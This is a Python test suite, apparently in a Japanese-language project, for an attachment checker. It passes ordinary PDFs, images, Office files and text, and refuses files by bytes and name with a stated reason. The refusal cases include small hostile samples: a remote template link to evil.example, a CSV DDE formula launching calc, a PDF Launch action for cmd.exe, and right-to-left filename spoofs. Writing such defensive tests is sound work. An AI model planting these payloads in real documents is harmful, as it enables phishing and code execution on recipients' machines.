"""Papers: what may go from one person to another is known by its bytes and its name; all else is refused with its reason."""

from __future__ import annotations

import zipfile
from io import BytesIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.rules.lint.papers import FORMS, MOST_BYTES, MOST_NAME, Unfit, Why, judged, shown, size_of

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF"
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 40
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
TYPES = '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.{}.main+xml"/></Types>'


def zipped(**parts: str | bytes) -> bytes:
    held = BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return held.getvalue()


def office(kind: str = "spreadsheetml.sheet", *, types: str = "", **more: Any) -> bytes:
    return zipped(**{"[Content_Types].xml": types or TYPES.format(kind)}, **more)


REMOTE = '<Relationship Id="1" Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
LINKED = (
    '<Relationship Id="1" Type="http://x/hyperlink" Target="https://example.com/" TargetMode="External"/>'
)


@pytest.mark.parametrize(
    ("name", "content", "form"),
    [
        ("見積書.pdf", PDF, "pdf"),
        ("IMG_1.JPG", JPEG, "jpg"),
        ("", JPEG, "jpg"),
        ("棚.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 9, "png"),
        ("IMG.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", "heic"),
        ("売上.xlsx", office(), "xlsx"),
        ("企画.docx", office("wordprocessingml.document", word___rels__a_dot_rels=LINKED), "docx"),
        ("説明.pptx", office("presentationml.presentation", ppt__printerSettings1_dot_bin=b"x"), "pptx"),
        ("表.ods", zipped(mimetype="application/vnd.oasis.opendocument.spreadsheet"), "ods"),
        ("名簿.csv", "品名,個数\r\nりんご,-3\r\n".encode("cp932"), "txt"),
        ("メモ.txt", "ありがとうございます".encode(), "txt"),
        ("メモ.txt", "ありがとう".encode("utf-16"), "txt"),
    ],
)
def test_what_people_send_each_other_goes_over(name: str, content: bytes, form: str) -> None:
    """Photos, PDF, tables, letters, slides and plain words."""
    assert judged(name, content).name == form


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("道具.exe", b"MZ\x90", Why.PROGRAM),
        ("見積書.pdf", b"MZ\x90\x00", Why.PROGRAM),  # by its bytes
        ("見積書.pdf.exe", PDF, Why.PROGRAM),  # by its name
        ("見積書.ＥＸＥ", PDF, Why.PROGRAM),
        ("見積書.exe. ", PDF, Why.PROGRAM),
        ("a.js", b"alert(1)", Why.PROGRAM),
        ("a.txt", b"#!/bin/sh\nrm", Why.PROGRAM),
        ("a.txt", b"  <script>alert(1)</script>", Why.PROGRAM),
        ("a.svg", b"<svg/>", Why.PROGRAM),
        ("a.lnk", b"L\x00\x00\x00\x01\x14\x02\x00", Why.PROGRAM),
        ("\u202efdp.exe", PDF, Why.MIXED),  # shown as exe.pdf
        ("見積\u202exslx.pdf", PDF, Why.MIXED),
        ("a.xlsm", office(), Why.MACRO),
        ("a.xlsx", office(xl__vbaProject_dot_bin=b"x"), Why.MACRO),
        ("a.xlsx", office(types=TYPES.format("x").replace("main", "macroEnabled.main")), Why.MACRO),
        ("a.xlsx", office(xl__macrosheets__sheet1_dot_xml="x"), Why.MACRO),
        ("a.docx", office("wordprocessingml.document", word__embeddings__oleObject1_dot_bin=b"x"), Why.MACRO),
        ("a.docx", office("wordprocessingml.document", word___rels__a_dot_rels=REMOTE), Why.MACRO),
        ("a.docx", office("wordprocessingml.document", word__a_dot_exe=b"MZ"), Why.MACRO),
        (
            "a.odt",
            zipped(mimetype="application/vnd.oasis.opendocument.text", Basic__m_dot_xml="x"),
            Why.MACRO,
        ),
        ("a.pdf", PDF + b"/S /JavaScript /JS (app.alert)", Why.MACRO),
        ("a.pdf", PDF + b"/S /#4aavaScript", Why.MACRO),
        ("a.pdf", PDF + b"/S /Launch /F (cmd.exe)", Why.MACRO),
        ("a.csv", b"name,1\n=cmd|' /C calc'!A0,2", Why.MACRO),
        ("a.zip", zipped(a="x"), Why.ARCHIVE),
        ("a.pdf", zipped(a="x"), Why.ARCHIVE),
        ("a.xlsx", zipped(a="x"), Why.ARCHIVE),
        ("a.xlsx", b"PK\x03\x04" + b"\x00" * 40, Why.ARCHIVE),
        ("a.lzh", b"\x00\x00-lh5-", Why.ARCHIVE),
        ("", b"\x00\x00-lh5-", Why.ARCHIVE),
        ("", b"7z\xbc\xaf\x27\x1c", Why.ARCHIVE),
        ("台帳.xls", OLE, Why.OLD),
        ("台帳.xlsx", OLE, Why.OLD),  # locked by a password, or an old one under a new name
        ("a.pdf", JPEG, Why.MIXED),
        ("a.jpg", PDF, Why.MIXED),
        ("a.mp4", b"\x00\x00\x00\x18ftypmp42", Why.UNKNOWN),
        ("a.xyz", b"plain", Why.UNKNOWN),
        ("a", b"\x00\x01\x02\x03", Why.UNKNOWN),
        ("a.pdf", b"", Why.EMPTY),
        ("a.pdf", PDF.ljust(MOST_BYTES + 1), Why.LARGE),
    ],
)
def test_what_could_do_harm_is_refused_with_its_reason(name: str, content: bytes, why: Why) -> None:
    """Programs, macros, archives, what cannot be looked into, and a name that says something else than the bytes."""
    with pytest.raises(Unfit) as no:
        judged(name, content)
    assert no.value.why is why


def test_a_bomb_is_not_unpacked() -> None:
    """A zip that says it holds a hundred megabytes is refused by its list, and nothing of it is read."""
    parts: dict[str, Any] = {f"xl__{n}": b"\x00" * (36 << 20) for n in range(3)}
    with pytest.raises(Unfit) as no:
        judged("a.xlsx", office(types="", **parts))
    assert no.value.why is Why.ARCHIVE


@given(st.text(max_size=200), st.binary(max_size=300))
def test_nothing_breaks_the_judge(name: str, content: bytes) -> None:
    """Any name and any bytes are a known form, or refused."""
    try:
        form = judged(name, content)
    except Unfit:
        return
    assert form.name in FORMS


@given(st.text(max_size=300), st.sampled_from(["", "pdf"]))
def test_a_name_is_always_safe_to_show(name: str, form: str) -> None:
    """One short line, without a path or marks that turn it around."""
    said = shown(name, form)
    assert 0 < len(said) <= MOST_NAME + 4
    assert said.isprintable()
    assert not set(said) & set('/\\:"<>|')


@pytest.mark.parametrize(
    ("name", "form", "said"),
    [
        ("../../etc/見積書.pdf", "", "....etc見積書.pdf".lstrip(".")),
        ("", "pdf", "ファイル1.pdf"),
        ("あ" * 100 + ".pdf", "", "あ" * 75 + "….pdf"),
        ("a\nb.txt", "txt", "ab.txt"),
    ],
)
def test_how_names_are_shown(name: str, form: str, said: str) -> None:
    """The end of a long name stays, for it says what it is."""
    assert shown(name, form) == said


def test_sizes_are_said_as_phones_do() -> None:
    """KB below a megabyte, one decimal above, never nothing."""
    assert [size_of(1), size_of(320 * 1024), size_of(5 << 20)] == ["1KB", "320KB", "5.0MB"]


def test_each_reason_is_short_and_kind() -> None:
    """One or two sentences, and mostly a way out."""
    assert all(len(why.value) <= 55 and why.value.endswith("。") for why in Why)
